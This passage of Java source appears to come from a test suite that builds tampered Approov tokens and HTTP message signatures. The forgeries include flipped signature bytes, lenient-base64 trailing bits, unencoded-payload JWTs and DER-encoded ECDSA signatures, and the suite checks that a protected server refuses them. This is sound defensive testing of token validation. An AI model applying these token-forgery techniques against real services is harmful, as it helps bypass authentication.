        legit(Target.HARDENED, PROTECTED, "GET", "key set: ES256", "Approov-Token", asymmetric("{\"alg\":\"ES256\"}", audClaims,
                EC.getPrivate(), "ES256"));
    }

    // ---- building requests ----

    private void attack(String name, String token) {
        add(PROTECTED, "GET", REFUSED, Target.DEFAULT, name, "Approov-Token", token);
    }

    private void hardened(String name, String token) {
        add(PROTECTED, "GET", REFUSED, Target.HARDENED, name, "Approov-Token", token);
    }

    private void add(String path, String method, Set<Integer> allowed, Target target, String name, String... headers) {
        attacks.add(new Request(group, name, target, method, path, List.of(headers), allowed, null));
    }

    private void legit(Target target, String path, String method, String name, String... headers) {
        legitimate.add(new Request(group, name, target, method, path, List.of(headers), OK, null));
    }

    private static String[] repeat(String name, String value, int times, String... more) {
        String[] headers = new String[times * 2 + more.length];
        for (int i = 0; i < times; i++) {
            headers[2 * i] = name;
            headers[2 * i + 1] = value;
        }
        System.arraycopy(more, 0, headers, times * 2, more.length);
        return headers;
    }

    // ---- minting ----

    /**
     * A genuine token with a growing nonce claim, until {@code wanted} holds; the nonce has {@code ?} in it,
     * one of the few ASCII characters whose encoding can yield {@code -} or {@code _}.
     */
    private String findValid(Predicate<String> wanted) {
        return findToken(i -> sign(HS256_HEADER, "{" + exp + ",\"n\":\"" + "?".repeat(i % 4) + i + "\"}", SECRET), wanted);
    }

    private static String findToken(java.util.function.IntFunction<String> mint, Predicate<String> wanted) {
        for (int i = 0; i < 10_000; i++) {
            String token = mint.apply(i);
            if (wanted.test(token)) {
                return token;
            }
        }
        throw new IllegalStateException("no such token");
    }

    static String macToken(String header, String payload, byte[] secret, String jcaAlgorithm) {
        String signingInput = b64url(header) + "." + b64url(payload);
        try {
            Mac mac = Mac.getInstance(jcaAlgorithm);
            mac.init(new SecretKeySpec(secret, jcaAlgorithm));
            return signingInput + "." + b64url(mac.doFinal(signingInput.getBytes(StandardCharsets.US_ASCII)));
        } catch (GeneralSecurityException e) {
            throw new IllegalStateException(e);
        }
    }

    static String signBytes(byte[] header, byte[] payload, byte[] secret) {
        return sign(header, payload, secret);
    }

    static String asymmetric(String header, String payload, PrivateKey key, String algorithm) {
        return ApproovTokens.sign(header, payload, key, algorithm);
    }

    /** RFC 7797: the payload travels unencoded and the signing input is the header, a dot and the raw payload. */
    private String unencodedPayloadToken() {
        String header = b64url("{\"alg\":\"HS256\",\"b64\":false,\"crit\":[\"b64\"]}");
        byte[] input = (header + "." + claims).getBytes(StandardCharsets.UTF_8);
        try {
            Mac mac = Mac.getInstance("HmacSHA256");
            mac.init(new SecretKeySpec(SECRET, "HmacSHA256"));
            return header + "." + claims + "." + b64url(mac.doFinal(input));
        } catch (GeneralSecurityException e) {
            throw new IllegalStateException(e);
        }
    }

    private static String derEs256(String payload) {
        String signingInput = b64url("{\"alg\":\"ES256\"}") + "." + b64url(payload);
        try {
            Signature signer = Signature.getInstance("SHA256withECDSA");
            signer.initSign(EC.getPrivate());
            signer.update(signingInput.getBytes(StandardCharsets.US_ASCII));
            return signingInput + "." + b64url(signer.sign());
        } catch (GeneralSecurityException e) {
            throw new IllegalStateException(e);
        }
    }

    private static String rsaJwk(KeyPair pair) {
        java.security.interfaces.RSAPublicKey key = (java.security.interfaces.RSAPublicKey) pair.getPublic();
        return "{\"kty\":\"RSA\",\"e\":\"" + b64url(key.getPublicExponent().toByteArray()) + "\",\"n\":\""
                + b64url(unsigned(key.getModulus().toByteArray())) + "\"}";
    }

    private static byte[] unsigned(byte[] bigEndian) {
        return bigEndian.length > 1 && bigEndian[0] == 0 ? Arrays.copyOfRange(bigEndian, 1, bigEndian.length) : bigEndian;
    }

    private static byte[] unsigned32(java.math.BigInteger value) {
        byte[] raw = unsigned(value.toByteArray());
        byte[] out = new byte[32];
        System.arraycopy(raw, 0, out, 32 - raw.length, raw.length);
        return out;
    }

    private static String dropLastSignatureByte(String token) {
        int dot = token.lastIndexOf('.');
        byte[] signature = Base64.getUrlDecoder().decode(token.substring(dot + 1));
        return token.substring(0, dot + 1) + b64url(Arrays.copyOf(signature, signature.length - 1));
    }

    private static byte[] deflate(String text) {
        Deflater deflater = new Deflater(Deflater.BEST_COMPRESSION, true);
        deflater.setInput(text.getBytes(StandardCharsets.UTF_8));
        deflater.finish();
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        byte[] buffer = new byte[4096];
        while (!deflater.finished()) {
            out.write(buffer, 0, deflater.deflate(buffer));
        }
        deflater.end();
        return out.toByteArray();
    }

    private static byte[] flipLastByte(byte[] secret) {
        byte[] changed = secret.clone();
        changed[changed.length - 1] ^= 1;
        return changed;
    }

    private static String flipFirst(String segment) {
        return (segment.charAt(0) == 'A' ? 'B' : 'A') + segment.substring(1);
    }

    /** The segment with its last character's unused low bits set: the same bytes to a lenient decoder. */
    static String withTrailingBits(String segment) {
        String alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
        int unusedBits = segment.length() % 4 == 2 ? 0x0F : 0x03;
        char last = segment.charAt(segment.length() - 1);
        return segment.substring(0, segment.length() - 1) + alphabet.charAt(alphabet.indexOf(last) | unusedBits);
    }

    private void signed(String name, String method, String path, String... headers) {
        add(path, method, REFUSED, Target.SIGNED, name, headers);
    }

    private void signedGet(String name, String token, MessageSignature signature) {
        signed(name, "GET", SIGNED, headers(token, signature));
    }

    /** The genuine Signature-Input with another Signature value. */
    private void signedBytes(String name, String token, String signatureInput, String signature) {
        signed(name, "GET", SIGNED, "Approov-Token", token, "Signature-Input", signatureInput, "Signature", signature);
    }

    /** A POST of {@code body}, with {@code contentDigest} (null: none) and the signature {@code signer} makes. */
    private void signedPost(String name, String body, String token, String contentDigest, MessageSignature.Builder signer) {
        String[] headers = contentDigest == null ? headers(token, signer.sign())
                : headers(token, signer.sign(), "Content-Digest", contentDigest);
        attacks.add(new Request(group, name, Target.SIGNED, "POST", SIGNED, List.of(headers), REFUSED, body));
    }

    private void signedLegit(String name, String method, String path, String body, String... headers) {
        legitimate.add(new Request("legitimate", name, Target.SIGNED, method, path, List.of(headers), OK, body));
    }

    /** The token, the signature fields, then {@code more} header name/value pairs. */
    private static String[] headers(String token, MessageSignature signature, String... more) {
        List<String> headers = new ArrayList<>(List.of("Approov-Token", token));
        signature.headers().forEach((name, value) -> headers.addAll(List.of(name, value)));
        headers.addAll(List.of(more));
        return headers.toArray(String[]::new);
    }

    /** A signer with no component yet, valid from now for an hour (the server allows an hour: see {@link #config}). */
    private MessageSignature.Builder signer() {
        return signer(DEVICE.getPrivate());
    }

    private MessageSignature.Builder signer(PrivateKey key) {
        return MessageSignature.builder(key).created(now).expires(now + 3600);
    }

    /** As Approov's SDK signs {@code method} of {@code path} behind {@link #SIGNED_ORIGIN}: @method, @target-uri, the token. */
    private MessageSignature.Builder sdk(String method, String path, String token) {
        return sdk(method, path, token, DEVICE.getPrivate());
    }

    private MessageSignature.Builder sdk(String method, String path, String token, PrivateKey key) {
        return signer(key).cover("@method", method).cover("@target-uri", SIGNED_ORIGIN + path).cover("approov-token", token);
    }

    /** A token valid for an hour with {@code key} as its ipk, and {@code more} JSON members (each with a leading comma). */
    private String ipkToken(java.security.PublicKey key, String more) {
        return sign(HS256_HEADER, "{" + exp + ",\"ipk\":\"" + ApproovTokens.ipk(key) + "\"" + more + "}", SECRET);
    }

    /** A genuine GET signature whose base64 satisfies {@code wanted} (ECDSA is randomised, so a few tries find one). */
    private MessageSignature findSignature(Predicate<MessageSignature> wanted, String token) {
        for (int i = 0; i < 1_000; i++) {
            MessageSignature signed = sdk("GET", SIGNED, token).sign();
            if (wanted.test(signed)) {
                return signed;
            }
        }
        throw new IllegalStateException("no such signature");
    }

    /** r and s of a raw r‖s signature as an ASN.1 DER SEQUENCE of two INTEGERs. */
    private static byte[] der(byte[] rs) {
        byte[] r = new java.math.BigInteger(1, Arrays.copyOfRange(rs, 0, 32)).toByteArray();
        byte[] s = new java.math.BigInteger(1, Arrays.copyOfRange(rs, 32, 64)).toByteArray();
        return concat(new byte[] {0x30, (byte) (4 + r.length + s.length), 0x02, (byte) r.length}, r,
                new byte[] {0x02, (byte) s.length}, s);
    }

    private static byte[] digest(String algorithm, String value) {
        try {
            return MessageDigest.getInstance(algorithm).digest(value.getBytes(StandardCharsets.UTF_8));
        } catch (GeneralSecurityException e) {
            throw new IllegalStateException(e);
        }
    }

    private static byte[] sha512(byte[] data) {
        try {
            return MessageDigest.getInstance("SHA-512").digest(data);
        } catch (GeneralSecurityException e) {
            throw new IllegalStateException(e);
        }
    }

    private static byte[] sha256(byte[] data) {
        try {
            return MessageDigest.getInstance("SHA-256").digest(data);
        } catch (GeneralSecurityException e) {
            throw new IllegalStateException(e);
        }
    }

    private static byte[] concat(byte[]... pieces) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        for (byte[] piece : pieces) {
            out.writeBytes(piece);
        }
        return out.toByteArray();
    }
}
